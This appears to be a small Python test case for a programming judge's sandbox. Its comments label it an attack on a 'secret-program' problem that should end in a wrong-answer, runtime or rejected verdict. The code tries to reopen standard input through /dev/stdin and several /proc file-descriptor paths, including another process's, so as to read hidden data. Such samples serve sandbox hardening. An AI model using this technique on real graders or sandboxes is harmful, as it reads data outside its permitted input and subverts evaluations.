# attack: open standard input again by its paths, and what lies beside it
# expect: WA|RE|RV
# problem: secret-program

import contextlib
import os

found = ""
for path in ("/dev/stdin", "/proc/self/fd/0", "/proc/self/fd/3", "/proc/1/fd/0"):
    with contextlib.suppress(OSError):
        found += os.fsdecode(os.read(os.open(path, os.O_RDONLY | os.O_NONBLOCK), 4096))
print(found or 1)
